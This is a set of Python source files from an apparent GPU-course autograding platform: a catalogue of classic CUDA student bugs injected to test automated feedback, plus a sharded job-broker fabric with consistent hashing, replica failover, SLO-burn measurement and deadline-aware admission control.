from dataclasses import dataclass
from typing import Callable

from repro.labs.catalog import get_lab


@dataclass(frozen=True)
class Mutation:
    """One classic bug: a name, the lab it applies to, and the rewrite."""

    name: str
    lab_slug: str
    description: str
    apply: Callable[[str], str]
    #: the diagnosis an automated-feedback system should produce
    expected_feedback_keyword: str


def _replace(old: str, new: str) -> Callable[[str], str]:
    def rewrite(source: str) -> str:
        assert old in source, f"mutation anchor missing: {old!r}"
        return source.replace(old, new)

    return rewrite


MUTATIONS: tuple[Mutation, ...] = (
    Mutation(
        name="missing-boundary-check",
        lab_slug="vector-add",
        description="no `if (i < len)` guard: the rounded-up grid "
                    "overruns the buffer",
        apply=_replace("if (i < len) {\n    out[i] = in1[i] + in2[i];\n  }",
                       "out[i] = in1[i] + in2[i];"),
        expected_feedback_keyword="boundary",
    ),
    Mutation(
        name="off-by-one-guard",
        lab_slug="vector-add",
        description="`i < len - 1` drops the last element",
        apply=_replace("if (i < len)", "if (i < len - 1)"),
        expected_feedback_keyword="boundary",
    ),
    Mutation(
        name="wrong-operator",
        lab_slug="vector-add",
        description="subtraction instead of addition",
        apply=_replace("in1[i] + in2[i]", "in1[i] - in2[i]"),
        expected_feedback_keyword="core",
    ),
    Mutation(
        name="missing-wbsolution",
        lab_slug="vector-add",
        description="never submits the output for checking",
        apply=_replace("wbSolution(args, hostOutput, inputLength);", ""),
        expected_feedback_keyword="wbSolution",
    ),
    Mutation(
        name="missing-memcpy-back",
        lab_slug="vector-add",
        description="forgets the device-to-host copy, submits zeros",
        apply=_replace(
            "cudaMemcpy(hostOutput, deviceOutput, inputLength * "
            "sizeof(float),\n             cudaMemcpyDeviceToHost);", ""),
        expected_feedback_keyword="core",
    ),
    Mutation(
        name="typo-in-identifier",
        lab_slug="vector-add",
        description="undeclared identifier from a typo",
        apply=_replace("int i = blockIdx.x", "int j = blockIdx.x"),
        expected_feedback_keyword="declaration",
    ),
    Mutation(
        name="divergent-syncthreads",
        lab_slug="tiled-matmul",
        description="__syncthreads() inside an if on threadIdx",
        apply=_replace("    __syncthreads();\n    for (int k = 0;",
                       "    if (tx == 0) __syncthreads();\n"
                       "    for (int k = 0;"),
        expected_feedback_keyword="every thread",
    ),
    Mutation(
        name="missing-second-barrier",
        lab_slug="tiled-matmul",
        description="drops the barrier after the accumulate phase: a "
                    "read/write race on the tiles",
        apply=_replace("      Pvalue += ds_A[ty][k] * ds_B[k][tx];\n"
                       "    __syncthreads();",
                       "      Pvalue += ds_A[ty][k] * ds_B[k][tx];"),
        expected_feedback_keyword="",  # a race: may pass serially (UB)
    ),
    Mutation(
        name="row-col-swapped",
        lab_slug="basic-matmul",
        description="row computed from threadIdx.x: uncoalesced + wrong",
        apply=_replace(
            "int row = blockIdx.y * blockDim.y + threadIdx.y;\n"
            "  int col = blockIdx.x * blockDim.x + threadIdx.x;",
            "int row = blockIdx.y * blockDim.y + threadIdx.x;\n"
            "  int col = blockIdx.x * blockDim.x + threadIdx.y;"),
        expected_feedback_keyword="",  # square-ish blocks: wrong or slow
    ),
    Mutation(
        name="no-stride-advance",
        lab_slug="image-equalization",
        description="grid-stride loop never advances: infinite loop",
        apply=_replace("    i += stride;", "    i += 0;"),
        expected_feedback_keyword="time limit",
    ),
    Mutation(
        name="plain-write-instead-of-atomic",
        lab_slug="input-binning",
        description="counts[bin]++ without atomics (a data race)",
        apply=_replace("atomicAdd(&(counts[bin]), 1);",
                       "counts[bin] = counts[bin] + 1;"),
        expected_feedback_keyword="",  # serial simulator picks one order
    ),
    Mutation(
        name="missing-cas-claim",
        lab_slug="bfs-queuing",
        description="read-check-write instead of atomicCAS: duplicates",
        apply=_replace(
            "int old = atomicCAS(&(levels[neighbor]), -1, depth);\n"
            "      if (old == -1) {",
            "if (levels[neighbor] == -1) {\n        "
            "levels[neighbor] = depth;"),
        expected_feedback_keyword="",
    ),
)


def buggy_source(mutation: Mutation) -> str:
    """The mutated full source for this bug."""
    return mutation.apply(get_lab(mutation.lab_slug).solution)


def mutations_for(lab_slug: str) -> list[Mutation]:
    return [m for m in MUTATIONS if m.lab_slug == lab_slug]
