"""SLO burn measurement over the telemetry queue-wait histogram.

PR 4 gave every delivery a ``webgpu_queue_wait_seconds{klass=…}``
observation; this module turns that stream into the one number the
autoscaler and admission controller act on: **burn**, the windowed p95
queue wait divided by the SLO target. Burn 1.0 means the fleet is
exactly on budget; 2.0 means students wait twice the promise; 0.3
means capacity to spare.

The histogram is cumulative, so a window is computed by *diffing
bucket counts* between samples — deterministic, mergeable across
workers, and O(buckets) regardless of traffic. When the window is
empty (nothing completed since the last sample — the signature of a
stalled or saturated queue), the age of the oldest queued job stands
in for p95, so a wedged fleet reads as burning, not healthy.
"""

from __future__ import annotations

import math
from dataclasses import dataclass

from repro.telemetry import QUEUE_WAIT_SECONDS, SLO_BURN, Telemetry
from repro.telemetry.metrics import Histogram, bucket_upper


@dataclass(frozen=True)
class SLOPolicy:
    """The queue-wait service-level objective and its control knobs."""

    #: The promise: p95 queue wait stays at or under this many seconds.
    queue_wait_p95_slo_s: float = 30.0
    #: Admission classes the SLO is measured over; ``None`` = all.
    #: Defaults to the student-facing classes — deferred previews
    #: waiting out their delay must not feed back into the burn signal.
    classes: tuple[str, ...] | None = ("grade", "run")
    #: Minimum simulated seconds between burn samples.
    sample_interval_s: float = 5.0

    def __post_init__(self) -> None:
        if self.queue_wait_p95_slo_s <= 0:
            raise ValueError("queue_wait_p95_slo_s must be > 0")


@dataclass(frozen=True)
class BurnSample:
    """One controller observation."""

    time: float
    p95_s: float          # windowed p95 queue wait (or the stall proxy)
    burn: float           # p95_s / SLO target
    observations: int     # deliveries in the window (0 = stall proxy)


def _window_p95(window: dict[int, int]) -> float:
    """p95 from diffed bucket counts (same math as the cumulative
    histogram's quantile, minus the min/max clamp a diff cannot keep)."""
    count = sum(window.values())
    if count == 0:
        return 0.0
    rank = max(1, math.ceil(0.95 * count))
    cumulative = 0
    for idx in sorted(window):
        cumulative += window[idx]
        if cumulative >= rank:
            return bucket_upper(idx)
    return bucket_upper(max(window))  # pragma: no cover


class SLOBurnMeter:
    """Windowed p95-vs-SLO reader over the shared metrics registry.

    Each meter keeps its own bucket snapshot, so the autoscaler and
    the dashboard can sample independently without stealing each
    other's windows.
    """

    def __init__(self, telemetry: Telemetry, policy: SLOPolicy | None = None):
        self.telemetry = telemetry
        self.policy = policy or SLOPolicy()
        self._snapshot: dict[int, int] = {}
        self._last_sample_at = -math.inf
        self._stall_proxy = 0.0
        self.samples: list[BurnSample] = []

    def _current_buckets(self) -> dict[int, int]:
        family = self.telemetry.metrics.get(QUEUE_WAIT_SECONDS)
        if not isinstance(family, Histogram):
            return {}
        if self.policy.classes is None:
            return dict(family.merged().buckets)
        out: dict[int, int] = {}
        for klass in self.policy.classes:
            for idx, n in family.merged(klass=klass).buckets.items():
                out[idx] = out.get(idx, 0) + n
        return out

    def due(self, now: float) -> bool:
        return now - self._last_sample_at >= self.policy.sample_interval_s

    def sample(self, now: float, stalled_wait_s: float = 0.0) -> BurnSample:
        """Take one burn observation.

        ``stalled_wait_s`` is the caller's oldest-queued-job age: it is
        the p95 stand-in when no delivery completed in the window.
        Once deliveries flow again its influence halves per sample (it
        never exceeds the live backlog age), so a recovering fleet
        walks burn back down instead of latching at storm level.
        """
        current = self._current_buckets()
        window = {idx: n - self._snapshot.get(idx, 0)
                  for idx, n in current.items()
                  if n - self._snapshot.get(idx, 0) > 0}
        self._snapshot = current
        self._last_sample_at = now
        observations = sum(window.values())
        p95 = _window_p95(window)
        if observations == 0:
            # nothing delivered: the backlog age IS the signal
            self._stall_proxy = stalled_wait_s
        else:
            # deliveries are flowing again. The oldest queued job
            # stays old for the whole drain, so taking the raw
            # backlog age as a floor would latch burn at storm level
            # long after recovery and admission would never reopen.
            # Halve the stall signal per delivering sample instead
            # (still capped by the live backlog age — a *growing*
            # backlog under load keeps its floor).
            self._stall_proxy = min(self._stall_proxy / 2.0,
                                    stalled_wait_s)
        effective = max(p95, self._stall_proxy)
        burn = effective / self.policy.queue_wait_p95_slo_s
        sample = BurnSample(time=now, p95_s=effective, burn=burn,
                            observations=observations)
        self.samples.append(sample)
        self.telemetry.metrics.gauge(
            SLO_BURN, "observed p95 queue wait / SLO target").set(burn)
        return sample

    @property
    def last(self) -> BurnSample | None:
        return self.samples[-1] if self.samples else None
