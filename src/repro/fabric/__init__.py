"""Sharded broker fabric: consistent-hash shards, replica failover,
batched delivery I/O, SLO-burn autoscaling signals, and deadline-aware
admission control — the million-student-semester substrate (ROADMAP
item 3, the paper's Fig. 1 deadline spike at MOOC scale).

* :mod:`repro.fabric.ring` — consistent-hash ring over ``(course,
  lab)`` partition keys;
* :mod:`repro.fabric.shard` — one shard: a ``JobQueue`` primary plus a
  synchronously-mirrored standby that promotes on loss;
* :mod:`repro.fabric.fabric` — the :class:`BrokerFabric` facade
  (MessageBroker-compatible) with batched publish/poll/ack/renew;
* :mod:`repro.fabric.slo` — windowed p95 queue-wait burn meter over
  the PR 4 telemetry;
* :mod:`repro.fabric.admission` — the grade > run > preview admission
  ladder driven by the burn signal.
"""

from repro.fabric.admission import (
    AdmissionController,
    AdmissionDecision,
    AdmissionPolicy,
    AdmissionState,
)
from repro.fabric.fabric import BrokerFabric, FabricConfig
from repro.fabric.ring import HashRing, stable_hash
from repro.fabric.shard import FabricShard, FailoverReport, ShardStats
from repro.fabric.slo import BurnSample, SLOBurnMeter, SLOPolicy

__all__ = [
    "AdmissionController",
    "AdmissionDecision",
    "AdmissionPolicy",
    "AdmissionState",
    "BrokerFabric",
    "BurnSample",
    "FabricConfig",
    "FabricShard",
    "FailoverReport",
    "HashRing",
    "SLOBurnMeter",
    "SLOPolicy",
    "ShardStats",
    "stable_hash",
]
