"""Deadline-aware admission control for the broker fabric.

The paper's Fig. 1 spike is not uniform traffic: in the hours before a
Wednesday deadline the queue carries three very different classes of
work. ``submit-for-grading`` is the student's deadline — it must never
be shed. ``run-on-dataset`` is iteration; it tolerates a delay.
Compile-only ``preview`` checks are editor traffic (the VSC-WebGPU
workload) and are the first thing to sacrifice. The controller watches
the SLO burn signal and walks a ladder::

    burn < defer_burn                -> OPEN      admit everything
    defer_burn <= burn < shed_burn   -> DEFERRING previews + runs wait
    burn >= shed_burn                -> SHEDDING  previews rejected,
                                                  runs deferred longer
    burn >= shed_run_burn            -> runs rejected too

Grading submissions are admitted in every state. Hysteresis: the state
only relaxes once burn drops below ``recover_burn`` — a controller
that flaps at the threshold sheds and admits alternate students, which
is worse than either policy applied consistently.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Any

from repro.telemetry import Telemetry, job_class


class AdmissionState(enum.Enum):
    OPEN = "open"
    DEFERRING = "deferring"
    SHEDDING = "shedding"


#: Numeric severity used for the dashboard gauge and hysteresis.
_SEVERITY = {AdmissionState.OPEN: 0, AdmissionState.DEFERRING: 1,
             AdmissionState.SHEDDING: 2}


@dataclass(frozen=True)
class AdmissionPolicy:
    """Burn thresholds and deferral delays for the class ladder."""

    defer_burn: float = 1.0       # above: low-priority classes wait
    shed_burn: float = 2.0        # above: previews are rejected
    shed_run_burn: float = 4.0    # above: runs are rejected too
    recover_burn: float = 0.8     # below: relax one state per sample
    run_defer_s: float = 30.0     # run-on-dataset deferral delay
    preview_defer_s: float = 120.0  # preview deferral delay

    def __post_init__(self) -> None:
        if not (self.recover_burn <= self.defer_burn
                <= self.shed_burn <= self.shed_run_burn):
            raise ValueError("need recover_burn <= defer_burn <= "
                             "shed_burn <= shed_run_burn")


@dataclass(frozen=True)
class AdmissionDecision:
    """What to do with one submitted job."""

    action: str                   # "admit" | "defer" | "shed"
    klass: str                    # "grade" | "run" | "preview"
    delay_s: float = 0.0          # > 0 only when action == "defer"
    reason: str = ""

    @property
    def admitted(self) -> bool:
        return self.action != "shed"


class AdmissionController:
    """Classifies jobs and applies the burn-driven ladder."""

    def __init__(self, policy: AdmissionPolicy | None = None,
                 telemetry: Telemetry | None = None):
        self.policy = policy or AdmissionPolicy()
        self.telemetry = telemetry if telemetry is not None else Telemetry()
        self.state = AdmissionState.OPEN
        self.burn = 0.0
        self.shed = 0
        self.deferred = 0
        self.admitted = 0

    def _gauge_state(self) -> None:
        self.telemetry.metrics.gauge(
            "webgpu_admission_state",
            "0=open 1=deferring 2=shedding").set(_SEVERITY[self.state])

    def observe_burn(self, burn: float, now: float) -> AdmissionState:
        """Feed one SLO burn sample; returns the (possibly new) state."""
        self.burn = burn
        policy = self.policy
        if burn >= policy.shed_burn:
            target = AdmissionState.SHEDDING
        elif burn >= policy.defer_burn:
            target = AdmissionState.DEFERRING
        else:
            target = AdmissionState.OPEN
        if _SEVERITY[target] > _SEVERITY[self.state]:
            self.state = target           # tighten immediately
        elif _SEVERITY[target] < _SEVERITY[self.state]:
            # relax only once the burn is clearly back under budget,
            # and only one rung per sample
            if burn <= policy.recover_burn:
                self.state = AdmissionState(
                    {2: "deferring", 1: "open", 0: "open"}[
                        _SEVERITY[self.state]])
        self._gauge_state()
        return self.state

    def decide(self, job: Any, now: float) -> AdmissionDecision:
        """Admission decision for one job under the current state."""
        klass = job_class(job)
        decision = self._decide(klass)
        counts = {"admit": "admitted", "defer": "deferred",
                  "shed": "shed"}[decision.action]
        setattr(self, counts, getattr(self, counts) + 1)
        self.telemetry.metrics.counter(
            "webgpu_admission_total",
            "admission decisions by class").inc(
                decision=decision.action, klass=klass)
        return decision

    def _decide(self, klass: str) -> AdmissionDecision:
        state, policy = self.state, self.policy
        if klass == "grade" or state is AdmissionState.OPEN:
            return AdmissionDecision("admit", klass)
        if state is AdmissionState.DEFERRING:
            delay = (policy.preview_defer_s if klass == "preview"
                     else policy.run_defer_s)
            return AdmissionDecision(
                "defer", klass, delay_s=delay,
                reason=f"queue-wait SLO burning at {self.burn:.2f}x; "
                       f"{klass} deferred {delay:.0f}s")
        # SHEDDING
        if klass == "preview" or self.burn >= policy.shed_run_burn:
            return AdmissionDecision(
                "shed", klass,
                reason=f"queue-wait SLO burning at {self.burn:.2f}x; "
                       f"{klass} jobs are shed until the storm drains")
        return AdmissionDecision(
            "defer", klass, delay_s=policy.run_defer_s * 2,
            reason=f"queue-wait SLO burning at {self.burn:.2f}x; "
                   f"run deferred {policy.run_defer_s * 2:.0f}s")

    def snapshot(self) -> dict[str, object]:
        return {"state": self.state.value, "burn": round(self.burn, 4),
                "admitted": self.admitted, "deferred": self.deferred,
                "shed": self.shed}
