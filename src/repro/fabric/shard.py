"""One broker shard: a primary ``JobQueue`` plus a standby replica.

The replica is modelled as synchronously-replicated delivery state:
every publish, lease, ack, nack, expiry, and dead-letter is mirrored
into a compact per-job record before the caller sees the response —
the same contract a zone-replicated queue service gives. When the
primary is lost, :meth:`crash` promotes the mirror into a fresh
``JobQueue``:

* **waiting** jobs are restored with their original enqueue time, so
  FIFO order and the student-visible wait survive the failover;
* **leased** jobs are re-seated for redelivery *exactly once* — the
  in-flight delivery died with the primary, so its attempt is voided
  (a shard loss must not walk innocent jobs toward the dead-letter
  queue) and the failover is recorded in the job's delivery history;
* **dead letters** are carried over untouched.

Acked jobs were terminal before the crash and are simply gone — which
is precisely at-least-once: nothing accepted is ever lost, and the
only duplication window is a delivery in flight at the moment of loss.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.broker.queue import DeadLetter, DeliveryPolicy, JobQueue
from repro.cluster.job import Job
from repro.telemetry import WARNING, Telemetry


@dataclass
class _Mirror:
    """Replicated per-job delivery state (what the standby knows)."""

    job: Job
    enqueued_at: float
    leased: bool = False
    not_before: float = 0.0


@dataclass
class ShardStats:
    failovers: int = 0
    restored_waiting: int = 0
    restored_in_flight: int = 0
    restored_dead: int = 0
    migrated_out: int = 0
    migrated_in: int = 0


@dataclass
class FailoverReport:
    """What one replica promotion recovered."""

    shard: str
    promoted_replica: str
    waiting: int
    in_flight: int
    dead: int

    @property
    def recovered(self) -> int:
        return self.waiting + self.in_flight


class FabricShard:
    """A named shard of the broker fabric."""

    def __init__(self, name: str, policy: DeliveryPolicy | None = None,
                 telemetry: Telemetry | None = None, replicas: int = 2):
        if replicas < 1:
            raise ValueError("a shard needs at least one replica")
        self.name = name
        self.policy = policy or DeliveryPolicy()
        self.telemetry = telemetry if telemetry is not None else Telemetry()
        self.replicas = replicas
        self._generation = 0          # bumps on every promotion
        self.queue = self._new_queue()
        self._mirror: dict[int, _Mirror] = {}
        self._dead_mirror: dict[int, DeadLetter] = {}
        self.stats = ShardStats()
        self.publishes = 0
        self.polls = 0

    def _new_queue(self) -> JobQueue:
        return JobQueue(name=f"{self.name}/r{self._generation}",
                        policy=self.policy, telemetry=self.telemetry)

    @property
    def primary_replica(self) -> str:
        return f"{self.name}/r{self._generation}"

    # -- replicated delivery operations ------------------------------------

    def publish(self, job: Job, now: float, not_before: float = 0.0) -> None:
        self._mirror[job.job_id] = _Mirror(job, now, not_before=not_before)
        self.publishes += 1
        self.queue.publish(job, now, not_before=not_before)

    def poll(self, capabilities: frozenset[str], num_gpus: int, now: float,
             consumer: str = "") -> tuple[Job, float] | None:
        self.polls += 1
        polled = self.queue.poll(capabilities, num_gpus, now,
                                 consumer=consumer)
        if polled is not None:
            record = self._mirror.get(polled[0].job_id)
            if record is not None:
                record.leased = True
        return polled

    def poll_batch(self, capabilities: frozenset[str], num_gpus: int,
                   now: float, consumer: str = "",
                   max_jobs: int = 8) -> list[tuple[Job, float]]:
        self.polls += 1
        out = self.queue.poll_batch(capabilities, num_gpus, now,
                                    consumer=consumer, max_jobs=max_jobs)
        for job, _ in out:
            record = self._mirror.get(job.job_id)
            if record is not None:
                record.leased = True
        return out

    def ack(self, job_id: int, now: float | None = None) -> bool:
        ok = self.queue.ack(job_id, now=now)
        if ok:
            self._mirror.pop(job_id, None)
        return ok

    def nack(self, job_id: int, now: float,
             reason: str = "consumer nack") -> bool:
        ok = self.queue.nack(job_id, now, reason=reason)
        if ok:
            self._sync_after_failure(job_id)
        return ok

    def renew(self, job_ids: list[int], now: float) -> int:
        return self.queue.renew(job_ids, now)

    def expire_leases(self, now: float) -> list[Job]:
        expired = self.queue.expire_leases(now)
        for job in expired:
            self._sync_after_failure(job.job_id)
        return expired

    def _sync_after_failure(self, job_id: int) -> None:
        """After a nack/expiry the job is either waiting out a backoff
        or dead-lettered; mirror whichever happened."""
        dead = self.queue.dead_letter(job_id)
        if dead is not None:
            self._mirror.pop(job_id, None)
            self._dead_mirror[job_id] = dead
            return
        record = self._mirror.get(job_id)
        if record is not None:
            record.leased = False

    def cancel(self, job_id: int) -> bool:
        ok = self.queue.cancel(job_id)
        if ok:
            self._mirror.pop(job_id, None)
        return ok

    # -- migration (ring rebalancing) --------------------------------------

    def take(self, job_id: int) -> tuple[Job, float] | None:
        taken = self.queue.take(job_id)
        if taken is not None:
            self._mirror.pop(job_id, None)
            self.stats.migrated_out += 1
        return taken

    def restore(self, job: Job, enqueued_at: float,
                not_before: float = 0.0) -> None:
        self._mirror[job.job_id] = _Mirror(job, enqueued_at,
                                           not_before=not_before)
        self.stats.migrated_in += 1
        self.queue.restore(job, enqueued_at, not_before=not_before)

    # -- failover ----------------------------------------------------------

    def crash(self, now: float) -> FailoverReport:
        """Lose the primary replica; promote the standby's mirror."""
        self._generation += 1
        self.stats.failovers += 1
        self.queue = self._new_queue()
        waiting = in_flight = 0
        for record in sorted(self._mirror.values(),
                             key=lambda r: r.enqueued_at):
            job = record.job
            if record.leased:
                # the delivery died with the primary: void its attempt
                # (infrastructure loss, not consumer failure) and note
                # the failover in the job's history
                job.delivery.attempts = max(0, job.delivery.attempts - 1)
                job.delivery.failures.append({
                    "time": now, "consumer": "",
                    "attempt": job.delivery.attempts,
                    "reason": f"shard {self.name} failover",
                    "counted": False})
                record.leased = False
                in_flight += 1
            else:
                waiting += 1
            self.queue.restore(job, record.enqueued_at,
                               not_before=record.not_before)
        for dead in self._dead_mirror.values():
            self.queue.restore_dead(dead)
        self.stats.restored_waiting += waiting
        self.stats.restored_in_flight += in_flight
        self.stats.restored_dead += len(self._dead_mirror)
        report = FailoverReport(shard=self.name,
                                promoted_replica=self.primary_replica,
                                waiting=waiting, in_flight=in_flight,
                                dead=len(self._dead_mirror))
        self.telemetry.metrics.counter(
            "webgpu_shard_failovers_total",
            "replica promotions per shard").inc(shard=self.name)
        tracer = self.telemetry.tracer
        if tracer.enabled:
            tracer.log_event("shard.failover", time=now, level=WARNING,
                             shard=self.name,
                             replica=self.primary_replica,
                             waiting=waiting, in_flight=in_flight)
        return report

    # -- introspection -----------------------------------------------------

    @property
    def depth(self) -> int:
        return len(self.queue)

    @property
    def in_flight_count(self) -> int:
        return self.queue.in_flight_count

    def waiting_ids(self) -> list[int]:
        return [job.job_id for job in self.queue.waiting()]

    def snapshot(self) -> dict[str, object]:
        return {"depth": self.depth,
                "in_flight": self.in_flight_count,
                "dead_letters": len(self.queue.dead_letters()),
                "replica": self.primary_replica,
                "failovers": self.stats.failovers,
                "publishes": self.publishes,
                "polls": self.polls}
