"""Consistent-hash ring partitioning jobs across broker shards.

The million-student fix for the single ``JobQueue`` is to partition by
``(course, lab)``: every job for one lab lands on one shard, so a
deadline storm for *one* course saturates *one* shard's lock while the
rest of the fleet stays responsive, and per-lab cache/dataset locality
comes for free. Consistent hashing (each shard owns many virtual
points on a 64-bit ring; a key belongs to the first point at or after
its hash) keeps resharding cheap: adding or removing one of N shards
remaps only ~K/N of K keys instead of rehashing the world.
"""

from __future__ import annotations

import hashlib
from bisect import bisect_right


def stable_hash(data: str) -> int:
    """A 64-bit hash that is stable across processes and Python runs
    (``hash()`` is salted per-process, which would reshuffle every
    shard assignment on restart)."""
    digest = hashlib.blake2b(data.encode("utf-8"), digest_size=8).digest()
    return int.from_bytes(digest, "big")


class HashRing:
    """Virtual-node consistent-hash ring mapping keys to shard names."""

    def __init__(self, shards: tuple[str, ...] | list[str] = (),
                 vnodes: int = 64):
        if vnodes < 1:
            raise ValueError("vnodes must be >= 1")
        self.vnodes = vnodes
        self._points: list[int] = []          # sorted vnode hashes
        self._owner: dict[int, str] = {}      # vnode hash -> shard
        self._shards: set[str] = set()
        for name in shards:
            self.add(name)

    @property
    def shards(self) -> list[str]:
        return sorted(self._shards)

    def __len__(self) -> int:
        return len(self._shards)

    def __contains__(self, name: str) -> bool:
        return name in self._shards

    def add(self, name: str) -> None:
        if name in self._shards:
            raise ValueError(f"shard {name!r} already on the ring")
        self._shards.add(name)
        for v in range(self.vnodes):
            point = stable_hash(f"{name}#{v}")
            # a full 64-bit collision between two shards' vnodes would
            # make ownership order-dependent; skip the duplicate point
            if point in self._owner:
                continue
            self._owner[point] = name
            self._points.insert(bisect_right(self._points, point), point)

    def remove(self, name: str) -> None:
        if name not in self._shards:
            raise KeyError(f"shard {name!r} not on the ring")
        self._shards.discard(name)
        self._points = [p for p in self._points
                        if self._owner[p] != name]
        self._owner = {p: s for p, s in self._owner.items() if s != name}

    def shard_for(self, key: str) -> str:
        """The shard owning ``key`` (first vnode at or after its hash,
        wrapping at the top of the ring)."""
        if not self._points:
            raise RuntimeError("ring has no shards")
        point = stable_hash(key)
        i = bisect_right(self._points, point)
        if i == len(self._points):
            i = 0
        return self._owner[self._points[i]]

    def preference(self, key: str, n: int = 2) -> list[str]:
        """The first ``n`` *distinct* shards walking the ring from the
        key's hash — the primary plus failover candidates.

        Returns at most ``min(n, len(self))`` names: once every
        physical shard has been collected the walk stops instead of
        scanning the remaining ``vnodes * shards`` points (asking for
        more failovers than shards used to cost a full ring sweep).
        """
        if not self._points:
            raise RuntimeError("ring has no shards")
        want = min(n, len(self._shards))
        out: list[str] = []
        seen: set[str] = set()
        start = bisect_right(self._points, stable_hash(key))
        npoints = len(self._points)
        for step in range(npoints):
            owner = self._owner[self._points[(start + step) % npoints]]
            if owner not in seen:
                seen.add(owner)
                out.append(owner)
                if len(out) >= want:
                    break
        return out

    def assignments(self, keys: list[str]) -> dict[str, str]:
        """key -> shard for a batch of keys."""
        return {key: self.shard_for(key) for key in keys}

    def load(self, keys: list[str]) -> dict[str, int]:
        """How many of ``keys`` each shard owns (balance diagnostics)."""
        counts = {name: 0 for name in self._shards}
        for key in keys:
            counts[self.shard_for(key)] += 1
        return counts
