"""The sharded broker fabric: ring-routed queues behind one facade.

Drop-in for :class:`repro.broker.broker.MessageBroker` (same delivery
surface: publish/poll/ack/nack/expire/cancel/DLQ), plus the three
things the single queue could not give a million-student semester:

* **sharding** — jobs route by ``(course, lab)`` over a consistent-hash
  ring of independent ``JobQueue`` shards, each with a standby replica
  (:class:`~repro.fabric.shard.FabricShard`) that promotes on loss
  without dropping accepted work;
* **batched I/O** — ``publish_batch`` / ``poll_batch`` / ``ack_batch``
  / ``renew`` coalesce the chatty per-job round-trips into one RPC per
  pump tick, with ``webgpu_fabric_{ops,rpcs}_total`` counting exactly
  how many round-trips the batching saved;
* **deadline-aware admission** — :meth:`admit` samples the SLO burn
  meter and applies the grade > run > preview ladder before a job ever
  reaches a queue.

Terminal routing uses a job_id -> shard map kept by the fabric (the
"routing tier"): acks, nacks, renewals, and cancels go straight to the
owning shard instead of fanning out.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.broker.queue import DeadLetter, DeliveryPolicy, JobQueue, QueueStats
from repro.cluster.job import Job
from repro.fabric.admission import (
    AdmissionController,
    AdmissionDecision,
    AdmissionPolicy,
)
from repro.fabric.ring import HashRing
from repro.fabric.shard import FabricShard, FailoverReport
from repro.fabric.slo import SLOBurnMeter, SLOPolicy
from repro.telemetry import Telemetry


@dataclass(frozen=True)
class FabricConfig:
    """How a platform builds its fabric (``WebGPU2(fabric=...)``)."""

    num_shards: int = 4
    vnodes: int = 64
    replicas_per_shard: int = 2
    #: batched-pump width: jobs a driver may lease per tick
    batch_size: int = 8
    slo: SLOPolicy | None = None
    admission: AdmissionPolicy | None = None
    #: set False to run the fabric without admission control (ablation)
    admission_enabled: bool = True


class _FabricQueueView:
    """Aggregate single-queue view so dashboards and fleet managers
    written against ``broker.queue`` keep working over the fabric."""

    def __init__(self, fabric: "BrokerFabric"):
        self._fabric = fabric

    @property
    def stats(self) -> QueueStats:
        total = QueueStats()
        for shard in self._fabric.shards.values():
            total.add(shard.queue.stats)
        for queue in self._fabric._draining.values():
            total.add(queue.stats)
        return total

    @property
    def policy(self) -> DeliveryPolicy:
        return self._fabric.policy

    def oldest_wait(self, now: float) -> float:
        return max((shard.queue.oldest_wait(now)
                    for shard in self._fabric.shards.values()),
                   default=0.0)

    def waiting(self) -> list[Job]:
        out: list[Job] = []
        for shard in self._fabric.shards.values():
            out.extend(shard.queue.waiting())
        return out

    def in_flight(self) -> list[Job]:
        out: list[Job] = []
        for shard in self._fabric.shards.values():
            out.extend(shard.queue.in_flight())
        for queue in self._fabric._draining.values():
            out.extend(queue.in_flight())
        return out

    def dead_letters(self) -> list[DeadLetter]:
        return self._fabric.dead_letters()

    def __len__(self) -> int:
        return self._fabric.depth()


class BrokerFabric:
    """N consistent-hash-routed shards presented as one broker."""

    def __init__(self, num_shards: int = 4,
                 policy: DeliveryPolicy | None = None,
                 telemetry: Telemetry | None = None,
                 vnodes: int = 64, replicas_per_shard: int = 2,
                 slo: SLOPolicy | None = None,
                 admission: AdmissionPolicy | None = None,
                 admission_enabled: bool = True,
                 shard_names: tuple[str, ...] | None = None):
        if shard_names is None:
            if num_shards < 1:
                raise ValueError("need at least one shard")
            shard_names = tuple(f"shard-{i}" for i in range(num_shards))
        self.policy = policy or DeliveryPolicy()
        self.telemetry = telemetry if telemetry is not None else Telemetry()
        self.replicas_per_shard = replicas_per_shard
        self.ring = HashRing(shard_names, vnodes=vnodes)
        self.shards: dict[str, FabricShard] = {
            name: FabricShard(name, policy=self.policy,
                              telemetry=self.telemetry,
                              replicas=replicas_per_shard)
            for name in shard_names}
        #: removed shards whose leases are still draining
        self._draining: dict[str, JobQueue] = {}
        self._route: dict[int, str] = {}      # job_id -> shard name
        self._poll_rr = 0
        self.slo = SLOBurnMeter(self.telemetry, slo or SLOPolicy())
        self.admission: AdmissionController | None = (
            AdmissionController(admission, self.telemetry)
            if admission_enabled else None)
        self.failovers: list[FailoverReport] = []

    @classmethod
    def from_config(cls, config: FabricConfig,
                    policy: DeliveryPolicy | None = None,
                    telemetry: Telemetry | None = None) -> "BrokerFabric":
        return cls(num_shards=config.num_shards, policy=policy,
                   telemetry=telemetry, vnodes=config.vnodes,
                   replicas_per_shard=config.replicas_per_shard,
                   slo=config.slo, admission=config.admission,
                   admission_enabled=config.admission_enabled)

    # -- routing -----------------------------------------------------------

    @staticmethod
    def key_for(job: Job) -> str:
        """The partition key: one course's one lab is one shard's
        problem (the deadline-storm unit of locality)."""
        return f"{getattr(job, 'course', '')}/{job.lab.slug}"

    def shard_of(self, job: Job) -> FabricShard:
        return self.shards[self.ring.shard_for(self.key_for(job))]

    def _count_io(self, op: str, ops: int, rpcs: int = 1) -> None:
        metrics = self.telemetry.metrics
        metrics.counter("webgpu_fabric_ops_total",
                        "logical delivery operations").inc(ops, op=op)
        metrics.counter("webgpu_fabric_rpcs_total",
                        "round-trips actually made").inc(rpcs, op=op)

    def _gauge_shards(self) -> None:
        metrics = self.telemetry.metrics
        depth = metrics.gauge("webgpu_shard_depth",
                              "waiting jobs per shard")
        in_flight = metrics.gauge("webgpu_shard_in_flight",
                                  "leased jobs per shard")
        dlq = metrics.gauge("webgpu_shard_dlq",
                            "dead letters per shard")
        for name, shard in self.shards.items():
            depth.set(shard.depth, shard=name)
            in_flight.set(shard.in_flight_count, shard=name)
            dlq.set(len(shard.queue.dead_letters()), shard=name)

    # -- admission ---------------------------------------------------------

    def admit(self, job: Job, now: float) -> AdmissionDecision:
        """Admission decision for one submission; samples the burn
